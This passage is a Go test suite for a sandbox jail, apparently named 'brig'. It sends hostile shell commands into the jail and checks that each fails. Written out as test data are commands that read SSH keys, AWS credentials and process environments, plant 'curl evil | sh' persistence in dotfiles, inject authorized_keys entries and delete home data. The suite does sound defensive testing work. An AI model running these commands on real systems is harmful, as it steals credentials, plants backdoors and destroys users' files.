package escape

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"brig/internal/egress"
	"brig/jail"
	"brig/supervisor"
)

// escCase is one hostile action with its control.
type escCase struct {
	family, name string
	// passes lists the layer passes (besides the full jail, which runs
	// everything) this case is meant for.
	passes     passMask
	onlyRoot   string // non-empty: skipped in the unprivileged pass, for this reason
	onlyUnpriv string // non-empty: skipped in the root pass, for this reason
	// hostOnly non-empty: the control needs what a user namespace that
	// cannot create another lacks (this reason), so in the pass without
	// user namespaces neither the control nor the attack can exist: n/a.
	hostOnly string
	probe    bool // needs the C probe (and the victim process)
	serial   bool // touches process-wide state of this test or the victim
	// control performs the same action where it is granted (or outside the
	// jail) and must observe it working; attack performs it in the jail and
	// must observe nothing.
	control, attack func(t *testing.T, e *env)
}

const (
	fsPasses = inLandlock | inNoNS | inLandlockBare
	// Landlock up to ABI 7 does not govern chmod or utimes: the read-only
	// mounts of the namespace layer stop them, and without namespaces the
	// supervisor decides them through seccomp user notifications (so
	// Landlock alone without namespaces does not).
	metaPasses = inLandlock | inSeccomp | inNoNS
	// Extended attributes: the namespace layer, and seccomp everywhere.
	xattrPasses = inLandlock | inSeccomp | inNoNS
	// prlimit/setpriority on another process: seccomp, or the PID
	// namespace hiding every process outside the call. Landlock alone
	// (ABI 7) does not govern them.
	otherProcPasses = inLandlock | inSeccomp | inNoNS
	procPasses      = inLandlock | inSeccomp | inNoNS | inLandlockBare
	netPasses       = inSeccomp | inNoNS
	kernPasses      = inSeccomp
	limitPasses     = inNoNS
)

func cases() []escCase {
	var all []escCase
	for _, f := range []func() []escCase{
		secretCases, traversalCases, procCases, writeCases, protectedCases,
		networkCases, supervisorCases, kernelCases, terminalCases, survivorCases, exhaustionCases,
		defaultGrantCases, plantedCases, limitCases,
	} {
		all = append(all, f()...)
	}
	// Cases only some layers are meant to stop on their own.
	narrower := map[string]passMask{
		"chmod an outside file":    metaPasses,
		"mtime of an outside file": metaPasses,
		"xattr of an outside file": xattrPasses,
		"prlimit the supervisor":   otherProcPasses,
		"renice a victim":          otherProcPasses,
	}
	// Cases whose control needs a new user namespace, or privileges over
	// the host's mounts and devices, outside the jail.
	const (
		noNewNS = "the control creates a user namespace outside the jail, which this pass (in a user namespace that cannot create another) cannot: the attack cannot exist here either"
		noHost  = "the control needs root's privileges over the host's mounts, devices or root directory, which root in this pass's user namespace does not have: the attack cannot exist here either"
	)
	hostOnly := map[string]string{
		"mount": noHost, "chroot": noHost, "mknod a device node": noHost, "bpf": noHost,
		"unshare user namespace": noNewNS, "clone with CLONE_NEWUSER": noNewNS, "unshare -U (util-linux)": noNewNS,
		"raw socket": noNewNS, "packet socket": noNewNS,
	}
	for i := range all {
		if p, ok := narrower[all[i].name]; ok {
			all[i].passes = p
		}
		all[i].hostOnly = hostOnly[all[i].name]
	}
	return all
}

// ---------------------------------------------------------------------------
// secrets

func secretCases() []escCase {
	read := func(name, rel, grant, script string) escCase {
		return escCase{family: "secrets", name: name, passes: fsPasses,
			control: func(t *testing.T, e *env) {
				if grant == "" {
					// brig's own directory is never granted: the control
					// reads it outside the jail.
					if out, _ := e.outside("cat", e.path(rel)); !strings.Contains(out, e.canary) {
						controlFail(t, "reading %s outside the jail did not show the canary", rel)
					}
					return
				}
				res := e.sh(`cat "$ESC_ROOT/`+rel+`"`, withRead(e.path(grant)))
				e.wantIn(res, e.canary, "reading "+rel+" with "+grant+" granted")
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(script)
				e.wantNotIn(res, e.canary, "reading "+rel)
			},
		}
	}
	readTool := func(name, rel, grant string) escCase {
		return escCase{family: "secrets", name: name, passes: fsPasses,
			control: func(t *testing.T, e *env) {
				if text := e.readFile(e.path(rel), withRead(e.path(grant))); !strings.Contains(text, e.canary) {
					controlFail(t, "read_file %s with %s granted did not show the canary: %s", rel, grant, text)
				}
			},
			attack: func(t *testing.T, e *env) {
				if text := e.readFile(e.path(rel)); strings.Contains(text, e.canary) {
					escaped(t, "read_file %s showed the canary: %s", rel, text)
				}
			},
		}
	}
	return []escCase{
		read("ssh private key", "home/.ssh/id_rsa", "home/.ssh",
			`cat ~/.ssh/id_rsa; cat "$HOME/.ssh/id_rsa"; head -c 4096 "$HOME"/.ssh/*; python3 -c 'import os;print(open(os.path.expanduser("~/.ssh/id_rsa")).read())'`),
		read("aws credentials", "home/.aws/credentials", "home/.aws",
			`cat ~/.aws/credentials; grep -r aws_secret "$HOME/.aws"; dd if="$HOME/.aws/credentials" bs=1 2>/dev/null`),
		read("brig credentials", "home/.config/brig/credentials.toml", "",
			`cat ~/.config/brig/credentials.toml; cat "$HOME"/.config/brig/*`),
		read("another project", "other/secret.txt", "other",
			`cat "$ESC_OTHER/secret.txt"; ls -la "$ESC_OTHER"; cat "$ESC_ROOT"/*/secret.txt`),
		// read_file, which an init that serves calls runs itself on a
		// file its restricted clone opened (jail/direct.go).
		readTool("read_file an ssh private key", "home/.ssh/id_rsa", "home/.ssh"),
		readTool("read_file another project", "other/secret.txt", "other"),
		{family: "secrets", name: "grep the filesystem", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				// A grant of $HOME masks the secrets in it; another
				// project holds the canary as an ordinary file.
				res := e.sh(`grep -rs BRIGCANARY "$ESC_OTHER"`, withRead(e.other))
				e.wantIn(res, e.canary, "grep over a granted project")
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`grep -rs BRIGCANARY "$HOME" "$ESC_ROOT" /var/tmp /root /home /etc 2>/dev/null | head -100`)
				e.wantNotIn(res, e.canary, "grep -r over $HOME, /var/tmp, /etc")
			}},
		{family: "secrets", name: "credential environment", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				res := e.sh(`env; tr '\0' '\n' < /proc/self/environ`)
				e.wantIn(res, "envcontrol-"+e.canary[len(e.canary)-8:], "an allowlisted variable (LC_ESCAPE_CONTROL) in the jail's environment")
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`env; tr '\0' '\n' < /proc/self/environ; tr '\0' '\n' < /proc/$PPID/environ; tr '\0' '\n' < /proc/1/environ`)
				e.wantNotIn(res, e.canary, "credential variables (GITHUB_TOKEN, AWS_*, *_API_KEY, DATABASE_URL) of the supervisor")
				e.wantNotIn(res, supSecret, "the supervisor's own credential variable")
			}},
	}
}

// ---------------------------------------------------------------------------
// traversal

func traversalCases() []escCase {
	readVia := func(name, script string, setup func(e *env)) escCase {
		return escCase{family: "traversal", name: name, passes: fsPasses,
			control: func(t *testing.T, e *env) {
				if setup != nil {
					setup(e)
				}
				res := e.sh(script, withRead(e.home, e.other))
				e.wantIn(res, e.canary, "the same traversal with $HOME and the other project granted")
			},
			attack: func(t *testing.T, e *env) {
				if setup != nil {
					setup(e)
				}
				res := e.sh(script)
				e.wantNotIn(res, e.canary, name)
			},
		}
	}
	shipLinks := func(e *env) {
		mustSymlink(e.t, "../../home/.ssh/id_rsa", filepath.Join(e.ws, "src/key.pem"))
		mustSymlink(e.t, e.home, filepath.Join(e.ws, "homelink"))
		mustSymlink(e.t, "../other/secret.txt", filepath.Join(e.ws, "docs.txt"))
	}
	return []escCase{
		readVia("dotdot", `cat ../home/.ssh/id_rsa; cat ./../other/secret.txt; cat src/../../home/.aws/credentials`, nil),
		readVia("deep dotdot", `cd src && cat ../../../../../../../..$ESC_ROOT/home/.ssh/id_rsa; cat ../../../../../../..$ESC_OTHER/secret.txt`, nil),
		readVia("cd to an ancestor", `cd "$ESC_ROOT" && cat home/.ssh/id_rsa other/secret.txt; cd / && cat "${ESC_ROOT#/}/home/.aws/credentials"`, nil),
		readVia("proc self root and cwd", `cat /proc/self/root$ESC_ROOT/home/.ssh/id_rsa; cat /proc/self/cwd/../other/secret.txt; cat /proc/thread-self/root$ESC_OTHER/secret.txt`, nil),
		readVia("symlink made in the jail", `ln -s "$HOME/.ssh/id_rsa" src/k && cat src/k; ln -s "$HOME" src/h && cat src/h/.aws/credentials; ln -s ../../other src/o && cat src/o/secret.txt`, nil),
		readVia("symlink shipped by the repository", `cat src/key.pem; cat homelink/.aws/credentials; cat docs.txt; python3 -c 'print(open("src/key.pem").read())'`, shipLinks),
		{family: "traversal", name: "a grant's path swapped for a link after the decision", passes: fsPasses,
			// The policy grants a file tool the one path it resolved (no
			// workspace grant beside it); another session's call writing
			// the same workspace replaces a directory on that path by a
			// link before this call's jail is set up. The jail opens the
			// path without following links, so the rule cannot move to
			// the link's target; the call is refused instead.
			control: func(t *testing.T, e *env) {
				e.mkfile("ws/sub/secret.txt", "the workspace's own "+e.canary+"\n", 0o644)
				res := e.sh(`cat sub/secret.txt`, onlyGrant(filepath.Join(e.ws, "sub/secret.txt")))
				e.wantIn(res, e.canary, "the granted file, as decided")
				res = e.sh(`cat "$ESC_OTHER/secret.txt"`, onlyGrant(filepath.Join(e.other, "secret.txt")))
				e.wantIn(res, e.canary, "the other project's file granted by its own path")
			},
			attack: func(t *testing.T, e *env) {
				e.mkfile("ws/sub/secret.txt", "the workspace's own\n", 0o644)
				if err := os.RemoveAll(filepath.Join(e.ws, "sub")); err != nil {
					t.Fatal(err)
				}
				mustSymlink(t, e.other, filepath.Join(e.ws, "sub"))
				res, err := e.call([]string{"/bin/sh", "-c", `cat sub/secret.txt`}, onlyGrant(filepath.Join(e.ws, "sub/secret.txt")))
				if err != nil {
					if !strings.Contains(err.Error(), "symbolic link") {
						t.Errorf("refused, but not for the planted link: %v", err)
					}
					return // refused: nothing ran
				}
				e.wantNotIn(res, e.canary, "the swapped grant")
			}},
		{family: "traversal", name: "hard link into the workspace", passes: fsPasses,
			// Landlock refuses a link between two different granted
			// hierarchies (EXDEV: the file could gain rights), even both
			// write-granted, so the in-jail control links a canary file
			// inside the workspace; outside the jail the very same ln of the
			// outside file must work (same filesystem, owner, so
			// fs.protected_hardlinks allows it).
			control: func(t *testing.T, e *env) {
				if !sameFS(e.ws, e.other) || !sameFS(e.ws, e.home) {
					t.Fatalf("fixture: the canaries must be on the workspace's filesystem")
				}
				e.outside("ln", filepath.Join(e.other, "secret.txt"), filepath.Join(e.ws, "src/outside-link"))
				if !strings.Contains(fileContent(filepath.Join(e.ws, "src/outside-link")), e.canary) {
					controlFail(t, "outside the jail, ln of the other project's secret into the workspace did not work")
				}
				e.mkfile("ws/src/inner-secret", e.canary+"\n", 0o600)
				res := e.sh(`ln src/inner-secret src/stolen && cat src/stolen`)
				if !exists(filepath.Join(e.ws, "src/stolen")) {
					controlFail(t, "ln inside the workspace did not create the link")
				}
				e.wantIn(res, e.canary, "cat through the hard link")
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`ln "$HOME/.ssh/id_rsa" src/stolen; ln "$ESC_OTHER/secret.txt" src/stolen2; ln -P "$HOME/.aws/credentials" stolen3; cat src/stolen src/stolen2 stolen3`)
				for _, p := range []string{"src/stolen", "src/stolen2", "stolen3"} {
					if exists(filepath.Join(e.ws, p)) {
						escaped(t, "the hard link %s to an outside file exists after the call", p)
					}
				}
				e.wantNotIn(res, e.canary, "cat through hard links")
			}},
		{family: "traversal", name: "move or copy an outside file in", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				e.sh(`mv "$ESC_OTHER/sub/data.txt" src/ && cp "$HOME/.aws/credentials" src/creds`, withWrite(e.other), withRead(e.path("home/.aws")))
				if !exists(filepath.Join(e.ws, "src/data.txt")) || !exists(filepath.Join(e.ws, "src/creds")) {
					controlFail(t, "mv/cp from granted directories did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(`mv "$ESC_OTHER/secret.txt" src/; cp "$HOME/.aws/credentials" src/creds; cp -r "$HOME/.ssh" src/ssh; tar -C "$HOME" -cf src/home.tar .`)
				for _, p := range []string{"src/secret.txt", "src/creds", "src/ssh/id_rsa"} {
					if exists(filepath.Join(e.ws, p)) {
						escaped(t, "%s exists in the workspace after the call", p)
					}
				}
				if strings.Contains(fileContent(filepath.Join(e.ws, "src/home.tar")), e.canary) {
					escaped(t, "src/home.tar holds the canary")
				}
				if !exists(filepath.Join(e.other, "secret.txt")) {
					escaped(t, "the other project's secret.txt was moved away")
				}
			}},
	}
}

// onlyGrant makes a call's grant what the policy compiles for a file tool
// reading path: read on it (and on the system and probe roots a command
// needs to start), not the workspace.
func onlyGrant(path string) opt {
	return withSpec(func(s *jail.Spec) {
		s.Paths = slices.DeleteFunc(s.Paths, func(r jail.PathRule) bool { return r.Path == s.Workspace })
		s.Paths = append(s.Paths, jail.PathRule{Path: path, Access: jail.Read})
	})
}

func mustSymlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

func sameFS(a, b string) bool {
	var sa, sb unix.Stat_t
	return unix.Stat(a, &sa) == nil && unix.Stat(b, &sb) == nil && sa.Dev == sb.Dev
}

// ---------------------------------------------------------------------------
// /proc

// supervisorControl proves an action against this test process (the
// supervisor) works outside the jail. As root that is direct. As uid 65534
// the supervisor is non-dumpable (supervisor.New), so even the same user
// outside the jail cannot do it: the control then checks that, and runs the
// same action against the dumpable victim instead.
func supervisorControl(t *testing.T, e *env, direct func() bool, viaVictim func() bool) {
	t.Helper()
	if !unprivPass {
		if !direct() {
			controlFail(t, "the action against the supervisor does not work outside the jail as root")
		}
		return
	}
	// The supervisor is non-dumpable except for the instant of a clone
	// into a new user namespace (see supervisor.startInUserNS); parallel
	// cases may be in that instant, so look until it is over.
	var d int
	var err error
	waitEvent(t, func() bool {
		d, err = unix.PrctlRetInt(unix.PR_GET_DUMPABLE, 0, 0, 0, 0)
		return err == nil && d == 0
	})
	if err != nil || d != 0 {
		controlFail(t, "the supervisor should be non-dumpable (got %d, %v)", d, err)
	}
	if !viaVictim() {
		controlFail(t, "the same action against the dumpable victim does not work outside the jail")
	}
}

func procCases() []escCase {
	return []escCase{
		{family: "proc", name: "supervisor environ", passes: fsPasses, probe: true,
			control: func(t *testing.T, e *env) {
				if !supEnvOK {
					controlFail(t, "the supervisor's /proc/PID/environ did not hold the canary variable (read before it became non-dumpable)")
				}
				v := getVictim(t)
				supervisorControl(t, e, func() bool {
					out, _ := e.outside("cat", fmt.Sprintf("/proc/%d/environ", os.Getpid()))
					return strings.Contains(out, supSecret)
				}, func() bool {
					out, _ := e.outside("cat", fmt.Sprintf("/proc/%d/environ", v.pid))
					return strings.Contains(out, v.secret)
				})
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`cat /proc/$ESC_TESTPID/environ; for p in /proc/[0-9]*; do cat $p/environ; done 2>/dev/null | tr '\0' '\n'`)
				e.wantNotIn(res, supSecret, "/proc/<supervisor>/environ")
			}},
		{family: "proc", name: "victim environ", passes: fsPasses, probe: true,
			control: func(t *testing.T, e *env) {
				v := getVictim(t)
				if out, _ := e.outside("cat", fmt.Sprintf("/proc/%d/environ", v.pid)); !strings.Contains(out, v.secret) {
					controlFail(t, "cannot read the victim's environ outside the jail")
				}
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`cat /proc/$ESC_VICTIM/environ | tr '\0' '\n'`)
				e.wantNotIn(res, getVictim(t).secret, "/proc/<victim>/environ")
			}},
		readVictimCase("proc", "victim mem", fsPasses, "memread", "MEMREAD:", "/proc/<victim>/mem", nil),
		{family: "proc", name: "supervisor mem", passes: fsPasses, probe: true,
			control: func(t *testing.T, e *env) {
				v := getVictim(t)
				supervisorControl(t, e, func() bool {
					out, _ := e.outside(probeBin, "memread", strconv.Itoa(os.Getpid()), memAddr(), strconv.Itoa(len(memSecret)))
					return strings.Contains(out, string(memSecret))
				}, func() bool {
					out, _ := e.outside(probeBin, "memread", strconv.Itoa(v.pid), v.addr, strconv.Itoa(v.length))
					return strings.Contains(out, v.secret)
				})
			},
			attack: func(t *testing.T, e *env) {
				res := e.argv([]string{probeBin, "memread", strconv.Itoa(os.Getpid()), memAddr(), strconv.Itoa(len(memSecret))})
				e.wantNotIn(res, string(memSecret), "/proc/<supervisor>/mem")
			}},
		{family: "proc", name: "victim root", passes: fsPasses, probe: true,
			control: func(t *testing.T, e *env) {
				v := getVictim(t)
				if out, _ := e.outside("cat", fmt.Sprintf("/proc/%d/root%s/.ssh/id_rsa", v.pid, e.home)); !strings.Contains(out, e.canary) {
					controlFail(t, "cannot read through /proc/<victim>/root outside the jail")
				}
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`cat /proc/$ESC_VICTIM/root$HOME/.ssh/id_rsa; cat /proc/$ESC_VICTIM/cwd$HOME/.aws/credentials`)
				e.wantNotIn(res, e.canary, "/proc/<victim>/root")
			}},
		{family: "proc", name: "victim fd", passes: fsPasses, probe: true,
			control: func(t *testing.T, e *env) {
				v := getVictim(t)
				if out, _ := e.outside("cat", fmt.Sprintf("/proc/%d/fd/%d", v.pid, v.fd)); !strings.Contains(out, v.secret) {
					controlFail(t, "cannot read the victim's open file through /proc/PID/fd outside the jail")
				}
			},
			attack: func(t *testing.T, e *env) {
				v := getVictim(t)
				res := e.sh(fmt.Sprintf(`cat /proc/$ESC_VICTIM/fd/%d; for f in /proc/$ESC_VICTIM/fd/*; do cat "$f"; done`, v.fd))
				e.wantNotIn(res, v.secret, "/proc/<victim>/fd/N")
			}},
		{family: "proc", name: "supervisor root", passes: fsPasses, probe: true,
			control: func(t *testing.T, e *env) {
				v := getVictim(t)
				supervisorControl(t, e, func() bool {
					out, _ := e.outside("cat", fmt.Sprintf("/proc/%d/root%s/.ssh/id_rsa", os.Getpid(), e.home))
					return strings.Contains(out, e.canary)
				}, func() bool {
					out, _ := e.outside("cat", fmt.Sprintf("/proc/%d/root%s/.ssh/id_rsa", v.pid, e.home))
					return strings.Contains(out, e.canary)
				})
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`cat /proc/$ESC_TESTPID/root$HOME/.ssh/id_rsa; cat /proc/$ESC_TESTPID/cwd/../../../$ESC_ROOT/other/secret.txt`)
				e.wantNotIn(res, e.canary, "/proc/<supervisor>/root")
			}},
		{family: "proc", name: "jail init root", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				res := e.sh(`cat /proc/self/root$HOME/.ssh/id_rsa`, withRead(e.path("home/.ssh")))
				e.wantIn(res, e.canary, "reading through /proc/self/root with ~/.ssh granted")
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`cat /proc/1/root$HOME/.ssh/id_rsa; cat /proc/$PPID/root$HOME/.ssh/id_rsa; for p in /proc/[0-9]*; do cat $p/root$HOME/.ssh/id_rsa; done 2>/dev/null`)
				e.wantNotIn(res, e.canary, "/proc/<init or parent>/root")
			}},
	}
}

func memAddr() string { return fmt.Sprintf("%#x", uintptrOf(memSecret)) }

// ---------------------------------------------------------------------------
// writes outside

func writeCases() []escCase {
	// created: the attack script must leave none of these paths behind.
	// Without namespaces no new entry can be made at the top of any write
	// grant (Landlock split grants keep protected names uncreatable), so
	// controls write one level down, into a directory that exists.
	created := func(name, script, ctlScript string, grant func(e *env) []string, ctlTarget string, targets ...string) escCase {
		return escCase{family: "writes", name: name, passes: fsPasses,
			control: func(t *testing.T, e *env) {
				e.sh(ctlScript, withWrite(grant(e)...))
				if !exists(e.path(ctlTarget)) {
					controlFail(t, "%s was not created with %v granted", ctlTarget, grant(e))
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(script)
				for _, p := range targets {
					if exists(e.path(p)) {
						escaped(t, "%s exists after the call", p)
					}
				}
			},
		}
	}
	// unchanged: the attack must not change these files.
	unchanged := func(name, script string, grant func(e *env) []string, targets ...string) escCase {
		snap := func(e *env) map[string]string {
			m := map[string]string{}
			for _, p := range targets {
				m[p] = inodeSig(e.path(p))
			}
			return m
		}
		return escCase{family: "writes", name: name, passes: fsPasses,
			control: func(t *testing.T, e *env) {
				before := snap(e)
				e.sh(script, withWrite(grant(e)...))
				if after := snap(e); after[targets[0]] == before[targets[0]] {
					controlFail(t, "%s did not change with %v granted", targets[0], grant(e))
				}
			},
			attack: func(t *testing.T, e *env) {
				before := snap(e)
				e.sh(script)
				after := snap(e)
				for _, p := range targets {
					if after[p] != before[p] {
						escaped(t, "%s changed: %s -> %s", p, before[p], after[p])
					}
				}
			},
		}
	}
	other := func(e *env) []string { return []string{e.other} }
	home := func(e *env) []string { return []string{e.home} }
	// A grant of $HOME keeps the later-executed files and secrets in it
	// read-only; the controls name the file (or directory) itself.
	named := func(rel string) func(e *env) []string {
		return func(e *env) []string { return []string{e.path(rel)} }
	}

	tmpName := "brig-escape-planted-" + randHex(6)
	return []escCase{
		created("another project", `echo pwn > "$ESC_OTHER/planted"; mkdir "$ESC_OTHER/dir"; echo pwn > "$ESC_OTHER/sub/planted"`,
			`echo pwn > "$ESC_OTHER/sub/planted"`, other, "other/sub/planted", "other/planted", "other/dir", "other/sub/planted"),
		unchanged("append to another project's file", `echo pwn >> "$ESC_OTHER/secret.txt"; truncate -s 0 "$ESC_OTHER/secret.txt"`, other, "other/secret.txt"),
		created("home dotfiles", `echo 'curl evil | sh' > ~/.profile; mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop; echo x > ~/.config/other/evil`,
			`echo x > ~/.config/other/evil`, home, "home/.config/other/evil", "home/.profile", "home/.config/autostart", "home/.config/other/evil"),
		unchanged("append to .bashrc", `echo 'curl evil | sh' >> ~/.bashrc`, named("home/.bashrc"), "home/.bashrc"),
		{family: "writes", name: "ssh authorized_keys", passes: fsPasses,
			// The control names the file: under a grant of ~/.ssh, the
			// later-executed ~/.ssh/rc and config stay protected, which
			// (without namespaces) keeps new entries out of ~/.ssh.
			control: func(t *testing.T, e *env) {
				e.mkfile("home/.ssh/authorized_keys", "", 0o600)
				e.sh(`echo 'ssh-ed25519 AAAAC3 evil' >> ~/.ssh/authorized_keys`, withWrite(e.path("home/.ssh/authorized_keys")))
				if !strings.Contains(fileContent(e.path("home/.ssh/authorized_keys")), "evil") {
					controlFail(t, "appending to ~/.ssh/authorized_keys with it granted did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(`echo 'ssh-ed25519 AAAAC3 evil' >> ~/.ssh/authorized_keys`)
				if exists(e.path("home/.ssh/authorized_keys")) {
					escaped(t, "home/.ssh/authorized_keys exists after the call")
				}
			}},
		unchanged("global gitconfig", `git config --global core.hooksPath /tmp/evil; printf '[alias]\n\tst = !touch /tmp/x\n' >> ~/.gitconfig`, named("home/.gitconfig"), "home/.gitconfig"),
		created("through a symlink made in the jail", `ln -s "$ESC_OTHER/planted" src/out; echo pwn > src/out; ln -s "$ESC_OTHER" src/od; echo pwn > src/od/planted2; ln -s "$ESC_OTHER/sub" src/os; echo pwn > src/os/planted3`,
			`ln -s "$ESC_OTHER/sub" src/os; echo pwn > src/os/planted3`, other, "other/sub/planted3", "other/planted", "other/planted2", "other/sub/planted3"),
		{family: "writes", name: "through a symlink shipped by the repository", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				mustSymlink(t, "../other/sub", filepath.Join(e.ws, "outdir"))
				e.sh(`echo pwn > outdir/planted`, withWrite(e.other))
				if !exists(filepath.Join(e.other, "sub/planted")) {
					controlFail(t, "writing through outdir/ with the other project granted did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				mustSymlink(t, "../other", filepath.Join(e.ws, "outdir"))
				e.sh(`echo pwn > outdir/planted; cp /etc/hostname outdir/planted2`)
				for _, p := range []string{"planted", "planted2"} {
					if exists(filepath.Join(e.other, p)) {
						escaped(t, "other/%s exists after the call", p)
					}
				}
			}},
		unchanged("chmod an outside file", `chmod 0777 "$ESC_OTHER/secret.txt"; chmod 4755 "$ESC_OTHER/secret.txt"; chmod 0644 "$HOME/.ssh/id_rsa"; chmod 0777 "$HOME/.ssh"; `+
			`python3 -c 'import os; fd=os.open(os.path.expanduser("~/.gitconfig"), os.O_RDONLY); os.fchmod(fd, 0o666)'; `+
			`python3 -c 'import os; fd=os.open(os.path.expanduser("~/.ssh/id_rsa"), os.O_PATH); os.chmod("/proc/self/fd/%d" % fd, 0o666)'; `+
			`ln -s "$HOME/.bashrc" src/bashrc-link; chmod 0666 src/bashrc-link; chown -h "$(id -u)" src/bashrc-link; chown "$(id -u):$(id -g)" "$HOME/.bashrc"; chgrp "$(id -g)" "$HOME/.gitconfig"`,
			other, "other/secret.txt", "home/.ssh/id_rsa", "home/.ssh", "home/.gitconfig", "home/.bashrc"),
		{family: "writes", name: "xattr of an outside file", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				// The jail refuses xattr changes everywhere (seccomp), so
				// the control is the same action outside the jail.
				e.outside("python3", "-c", `import os; os.setxattr(os.environ["ESC_OTHER"]+"/secret.txt", "user.brig_escape", b"planted")`)
				if !hasXattr(filepath.Join(e.other, "secret.txt")) {
					controlFail(t, "setxattr on a file of the write-granted project did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(`python3 -c 'import os; os.setxattr(os.environ["ESC_OTHER"]+"/secret.txt", "user.brig_escape", b"planted")'; python3 -c 'import os; os.setxattr(os.path.expanduser("~/.bashrc"), "user.brig_escape", b"planted")'`)
				for _, p := range []string{"other/secret.txt", "home/.bashrc"} {
					if hasXattr(e.path(p)) {
						escaped(t, "the jail set the extended attribute user.brig_escape on %s", p)
					}
				}
			}},
		unchanged("mtime of an outside file", `touch -d '2001-01-01 00:00' "$ESC_OTHER/secret.txt" "$HOME/.bashrc"; touch -h -d '2001-01-01 00:00' "$HOME/.gitconfig"; `+
			`python3 -c 'import os; fd=os.open(os.path.expanduser("~/.gitconfig"), os.O_RDONLY); os.utime(fd, (0, 0))'; `+
			`python3 -c 'import os; os.utime(os.path.expanduser("~/.gitconfig"), (1, 1), follow_symlinks=False)'`,
			other, "other/secret.txt", "home/.bashrc", "home/.gitconfig"),
		{family: "writes", name: "delete outside files", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				e.sh(`rm -f "$ESC_OTHER/sub/data.txt"`, withWrite(e.other))
				if exists(filepath.Join(e.other, "sub/data.txt")) {
					controlFail(t, "rm in the write-granted project did not remove the file")
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(`rm -f "$ESC_OTHER/secret.txt" "$HOME/.aws/credentials"; rm -rf "$HOME/.ssh"; cd / && rm -rf "${ESC_ROOT#/}/other"`)
				for _, p := range []string{"other/secret.txt", "home/.aws/credentials", "home/.ssh/id_rsa"} {
					if !exists(e.path(p)) {
						escaped(t, "%s was deleted", p)
					}
				}
			}},
		{family: "writes", name: "rename the workspace away", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				e.mkdir("scratch/a/dir")
				e.sh(`mv "$ESC_ROOT/scratch/a/dir" "$ESC_ROOT/scratch/a/dir2"`, withWrite(e.path("scratch")))
				if !exists(e.path("scratch/a/dir2")) {
					controlFail(t, "renaming a directory inside a write-granted parent did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(`cd / && mv "$ESC_WS" "$ESC_WS.moved"; mv "$ESC_OTHER" "$ESC_WS/src/other"`)
				if exists(e.ws+".moved") || !exists(filepath.Join(e.ws, "src/main.go")) {
					escaped(t, "the workspace was renamed away")
				}
				// mv falls back to copying when rename crosses mounts, and
				// leaves the empty target directory behind when the copy is
				// refused: judge by the other project's content.
				if exists(filepath.Join(e.ws, "src/other/secret.txt")) || !exists(filepath.Join(e.root, "other/secret.txt")) {
					escaped(t, "the other project was moved into the workspace")
				}
			}},
		{family: "writes", name: "real /tmp", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				dir := hostScratch(t, "/tmp")
				if err := os.Mkdir(filepath.Join(dir, "sub"), 0o755); err != nil {
					t.Fatal(err)
				}
				e.sh(`echo ok > "`+dir+`/sub/created"`, withWrite(dir))
				if !exists(filepath.Join(dir, "sub/created")) {
					controlFail(t, "writing into a write-granted directory under the real /tmp did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				p := "/tmp/" + tmpName + "-" + e.label
				t.Cleanup(func() { os.RemoveAll(p); os.RemoveAll(p + ".d") })
				e.sh(`echo pwn > ` + p + `; mkdir ` + p + `.d`)
				if exists(p) || exists(p+".d") {
					escaped(t, "%s exists in the host's /tmp after the call", p)
				}
			}},
		{family: "writes", name: "real /dev/shm", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				dir := hostScratch(t, "/dev/shm")
				if err := os.Mkdir(filepath.Join(dir, "sub"), 0o755); err != nil {
					t.Fatal(err)
				}
				e.sh(`echo ok > "`+dir+`/sub/created"`, withWrite(dir))
				if !exists(filepath.Join(dir, "sub/created")) {
					controlFail(t, "writing into a write-granted directory under the real /dev/shm did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				p := "/dev/shm/" + tmpName + "-" + e.label
				t.Cleanup(func() { os.RemoveAll(p) })
				e.sh(`echo pwn > ` + p + `; python3 -c 'import sys,os; fd=os.open(sys.argv[1], os.O_CREAT|os.O_WRONLY); os.write(fd, b"x")' ` + p)
				if exists(p) {
					escaped(t, "%s exists in the host's /dev/shm after the call", p)
				}
			}},
		{family: "writes", name: "supervisor sweep through a planted symlink", passes: fsPasses,
			// The supervisor deletes protected paths a call created. If the
			// call replaces a parent of a MISSING protected path (here brig's
			// state directory, under a write-granted $HOME) by a symlink, the
			// sweep must not follow it and delete data outside every grant.
			control: func(t *testing.T, e *env) {
				e.mkfile("other/brig/keep.txt", "keep\n", 0o644)
				e.sh(`rm -rf "$ESC_OTHER/brig"`, withWrite(e.other))
				if exists(filepath.Join(e.other, "brig/keep.txt")) {
					controlFail(t, "rm -rf in the write-granted project did not remove other/brig")
				}
			},
			attack: func(t *testing.T, e *env) {
				e.mkfile("other/brig/keep.txt", "keep\n", 0o644)
				if err := os.RemoveAll(e.path("home/.local/state/brig")); err != nil {
